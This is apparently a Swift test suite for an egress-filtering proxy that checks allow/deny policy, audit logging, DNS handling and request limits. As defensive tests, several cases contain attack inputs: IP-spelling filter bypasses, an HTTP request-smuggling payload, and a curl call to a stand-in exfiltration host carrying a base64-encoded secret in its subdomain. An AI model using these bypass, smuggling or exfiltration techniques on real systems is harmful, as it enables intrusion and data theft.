import Foundation
import StepGuardAudit
import StepGuardEgress
import StepGuardPolicy
import StepGuardServerTestSupport
import StepGuardTestSupport
import Testing

/// The proxy in-process, driven by real clients (curl) and raw sockets; every packet stays on loopback.
@Suite(.serialized) struct ProxyTests {
    static let echo: LocalHTTPServer.Handler = { request in
        ServerResponse(status: 200, body: "hello \(request.method) \(request.uri) host=\(request.header("host") ?? "-") auth=\(request.header("authorization") != nil)")
    }

    @Test func allowedAndDeniedHostsWithAuditEvents() async throws {
        let server = try LocalHTTPServer.start(handler: Self.echo)
        defer { server.shutdown() }
        let directory = try TemporaryDirectory()
        defer { directory.remove() }
        let log = directory.path("audit.jsonl")
        let policy = try Egress.policy("version: 1\negress:\n  default: deny\n  allow: [\"127.0.0.1:\(server.port)\"]\n  deny: [127.0.0.3]\n")
        let stop = Egress.StopCounter()
        let session = try await Egress.session(policy, trail: try Egress.trail(log: log), stop: stop)
        defer { session.stop() }

        let allowed = try Egress.curl(session, ["-i", "http://127.0.0.1:\(server.port)/ok?q=1"])
        #expect(allowed.stdout.hasPrefix("HTTP/1.1 200"))
        #expect(allowed.stdout.contains("hello GET /ok?q=1 host=127.0.0.1:\(server.port)"))

        let denied = try Egress.curl(session, ["-i", "http://127.0.0.3:\(server.port)/secret"])
        #expect(denied.stdout.hasPrefix("HTTP/1.1 403"))
        #expect(denied.stdout.lowercased().contains("x-stepguard-decision: deny"))
        let json = try Egress.jsonBody(denied.stdout)
        #expect(json["rule"] as? String == "egress.deny: 127.0.0.3")
        #expect((json["reason"] as? String)?.contains("denied") == true)
        #expect(stop.value == 1, "on_violation defaults to kill")

        let events = try AuditLogFile.events(log)
        #expect(events.count == 2)
        #expect(events[0]["decision"] as? String == "allow" && events[0]["host"] as? String == "127.0.0.1" && events[0]["path"] as? String == "/ok")
        #expect(events[1]["decision"] as? String == "deny" && events[1]["type"] as? String == "egress")
        #expect(events[1]["method"] as? String == "GET" && events[1]["rule"] as? String == "egress.deny: 127.0.0.3")
        #expect(server.requests.count == 1)
    }

    @Test(arguments: ["2130706435", "0x7f000003", "0177.0.0.3", "[::ffff:127.0.0.3]", "127.0.0.3.", "0x7F.0.0.3"])
    func everyIPSpellingOfADeniedAddressIsDenied(spelling: String) async throws {
        let server = try LocalHTTPServer.start(host: "127.0.0.3", handler: Self.echo)
        defer { server.shutdown() }
        let policy = try Egress.policy("version: 1\non_violation: fail\negress:\n  default: allow\n  allow: [127.0.0.0/8]\n  deny: [127.0.0.3]\n")
        let session = try await Egress.session(policy, trail: try Egress.trail())
        defer { session.stop() }
        let plain = Egress.raw(port: session.port, "GET http://\(spelling):\(server.port)/ HTTP/1.1\r\nHost: \(spelling):\(server.port)\r\nConnection: close\r\n\r\n")
        #expect(Egress.statusCode(plain) == 403, "\(plain)")
        let tunnel = Egress.raw(port: session.port, "CONNECT \(spelling):\(server.port) HTTP/1.1\r\nHost: \(spelling):\(server.port)\r\n\r\n")
        #expect(Egress.statusCode(tunnel) == 403, "\(tunnel)")
        #expect(server.requests.isEmpty)
    }

    @Test func namesAreResolvedByTheProxyAndTheCheckedAddressIsUsed() async throws {
        let server = try LocalHTTPServer.start(handler: Self.echo)
        defer { server.shutdown() }
        // localhost resolves to 127.0.0.1 (and maybe ::1); a deny on the address blocks the name.
        let deny = try Egress.policy("version: 1\non_violation: fail\negress:\n  default: allow\n  deny: [127.0.0.0/8, \"::1\"]\n")
        let session = try await Egress.session(deny, trail: try Egress.trail())
        defer { session.stop() }
        let response = try Egress.curl(session, ["-i", "http://LocalHost.:\(server.port)/"])
        #expect(response.stdout.hasPrefix("HTTP/1.1 403"), "\(response.stdout)")
        #expect(server.requests.isEmpty)
    }

    @Test func resolveOverridesAndConnectTunnels() async throws {
        let ca = try TestCertificateAuthority(directory: try TemporaryDirectory())
        let server = try LocalHTTPServer.start(tls: ca, tlsNames: ["mirror.example.test"], handler: Self.echo)
        defer { server.shutdown() }
        let policy = try Egress.policy("""
        version: 1
        egress: { default: deny, allow: [mirror.example.test] }
        network: { resolve: { "mirror.example.test:443": "127.0.0.1:\(server.port)" } }
        """)
        let session = try await Egress.session(policy, trail: try Egress.trail())
        defer { session.stop() }
        let result = try Egress.curl(session, ["--cacert", ca.certificateFile, "https://mirror.example.test/pkg", "https://mirror.example.test/again"])
        #expect(result.stdout == "hello GET /pkg host=mirror.example.test auth=false" + "hello GET /again host=mirror.example.test auth=false", "\(result.stderr)")
    }

    @Test func keepAliveAndManyConcurrentConnections() async throws {
        let server = try LocalHTTPServer.start(handler: Self.echo)
        defer { server.shutdown() }
        let session = try await Egress.loopbackSession()
        defer { session.stop() }
        let urls = (0..<20).map { "http://127.0.0.1:\(server.port)/\($0)" }
        let sequential = try Egress.curl(session, urls)
        #expect(sequential.stdout.components(separatedBy: "hello GET").count == 21)
        let parallel = try Egress.curl(session, ["--parallel", "--parallel-max", "50"] + (0..<200).map { "http://127.0.0.1:\(server.port)/p\($0)" })
        #expect(parallel.stdout.components(separatedBy: "hello GET").count == 201)
        try await Task.sleep(for: .milliseconds(300))
        #expect(session.openConnections == 0)
    }

    @Test func smugglingAndLimits() async throws {
        let server = try LocalHTTPServer.start(handler: Self.echo)
        defer { server.shutdown() }
        var limits = ProxyLimits()
        limits.requestHeadTimeout = .seconds(1)
        let session = try await Egress.loopbackSession(limits: limits)
        defer { session.stop() }
        let target = "http://127.0.0.1:\(server.port)/"
        let both = Egress.raw(port: session.port, "POST \(target) HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\n\r\n")
        #expect(Egress.statusCode(both) == 400 && both.contains("X-StepGuard-Decision: error") && both.contains("\"rule\":\"built-in: message framing\""), "\(both)")
        let twoLengths = Egress.raw(port: session.port, "POST \(target) HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello!")
        #expect(Egress.statusCode(twoLengths) == 400, "\(twoLengths)")
        let manyHeaders = (0..<150).map { "X-H\($0): v\r\n" }.joined()
        let hugeHeader = "X-Big: " + String(repeating: "a", count: 40_000) + "\r\n"
        for oversized in [manyHeaders, hugeHeader] {
            let answer = Egress.raw(port: session.port, "GET \(target) HTTP/1.1\r\nHost: x\r\n\(oversized)\r\n")
            #expect(Egress.statusCode(answer) == 431 && answer.contains("X-StepGuard-Decision: error") && answer.contains("\"rule\":\"built-in: header limits\""),
                    "\(answer.prefix(400))")
        }
        let originForm = Egress.raw(port: session.port, "GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
        #expect(Egress.statusCode(originForm) == 400)
        // A slow request (head never finished) is cut off after the head timeout.
        let started = Date()
        let slow = Egress.raw(port: session.port, "GET \(target) HTTP/1.1\r\nHost: x\r\n", timeout: 10)
        #expect(Date().timeIntervalSince(started) < 5)
        #expect(!slow.contains("hello"))
        #expect(server.requests.isEmpty)
    }

    @Test func largeUploadsAndDownloadsStream() async throws {
        let payload = String(repeating: "0123456789abcdef", count: 6 * 65536)  // 6 MiB
        let server = try LocalHTTPServer.start { request in
            ServerResponse(status: 200, body: "received=\(request.body.count) " + (request.uri == "/big" ? payload : ""))
        }
        defer { server.shutdown() }
        let directory = try TemporaryDirectory()
        defer { directory.remove() }
        let file = try directory.write("upload.bin", payload)
        let session = try await Egress.loopbackSession()
        defer { session.stop() }
        let upload = try Egress.curl(session, ["--data-binary", "@\(file)", "-H", "Expect:", "http://127.0.0.1:\(server.port)/up"])
        #expect(upload.stdout == "received=\(payload.utf8.count) ", "\(upload.stderr)")
        let download = try Egress.curl(session, ["http://127.0.0.1:\(server.port)/big"])
        #expect(download.stdout.utf8.count == payload.utf8.count + "received=0 ".utf8.count)
    }

    @Test func upstreamFailureIs502WithTheReason() async throws {
        // Find a loopback port with nothing listening.
        let server = try LocalHTTPServer.start(handler: Self.echo)
        let closedPort = server.port
        server.shutdown()
        let session = try await Egress.loopbackSession()
        defer { session.stop() }
        let response = try Egress.curl(session, ["-i", "http://127.0.0.1:\(closedPort)/"])
        #expect(response.stdout.hasPrefix("HTTP/1.1 502"))
        #expect(response.stdout.contains("cannot connect to 127.0.0.1:\(closedPort)"))
        // Names under .invalid (RFC 6761) are never looked up: no DNS query leaves the machine.
        let unresolvable = try Egress.curl(session, ["-i", "http://no-such-host.invalid/"])
        #expect(unresolvable.stdout.hasPrefix("HTTP/1.1 502"))
        #expect(unresolvable.stdout.contains("names under .invalid never resolve"))
    }

    @Test func aNameDeniedByPolicyIsDeniedWithoutALookup() async throws {
        let policy = try Egress.policy("version: 1\negress: { default: deny, allow: [\"*.mirror.invalid\"] }\n")
        let trail = try Egress.trail()
        let session = try await Egress.session(policy, trail: trail)
        defer { session.stop() }
        let plain = try Egress.curl(session, ["-i", "http://c2VjcmV0.exfil.invalid/"])
        #expect(plain.stdout.hasPrefix("HTTP/1.1 403") && plain.stdout.lowercased().contains("x-stepguard-decision: deny"), "\(plain.stdout)")
        let tunnel = try Egress.curl(session, ["-i", "https://c2VjcmV0.exfil.invalid/"])
        #expect(tunnel.stderr.contains("CONNECT tunnel failed, response 403"), "\(tunnel.stderr)")
        let denials = trail.recorded.filter { $0.decision == .deny }
        #expect(denials.count == 2 && denials.allSatisfy { $0.rule == "egress.default: deny" && $0.subject["address"] == .string("") })
        // A name the policy allows is looked up (and .invalid fails there, without DNS): 502, not 403.
        #expect(try Egress.curl(session, ["-i", "http://pkg.mirror.invalid/"]).stdout.hasPrefix("HTTP/1.1 502"))
    }

    @Test func auditModeRecordsButDoesNotBlock() async throws {
        let server = try LocalHTTPServer.start(host: "127.0.0.3", handler: Self.echo)
        defer { server.shutdown() }
        let policy = try Egress.policy("version: 1\nmode: audit\negress:\n  default: allow\n  allow: [127.0.0.0/8]\n  deny: [127.0.0.3]\n")
        let stop = Egress.StopCounter()
        let trail = try Egress.trail(auditOnly: true)
        let session = try await Egress.session(policy, trail: trail, stop: stop)
        defer { session.stop() }
        let response = try Egress.curl(session, ["http://127.0.0.3:\(server.port)/"])
        #expect(response.stdout.hasPrefix("hello GET /"))
        #expect(trail.recorded.contains { $0.decision == .deny && $0.type == .egress })
        #expect(stop.value == 0)
    }
}
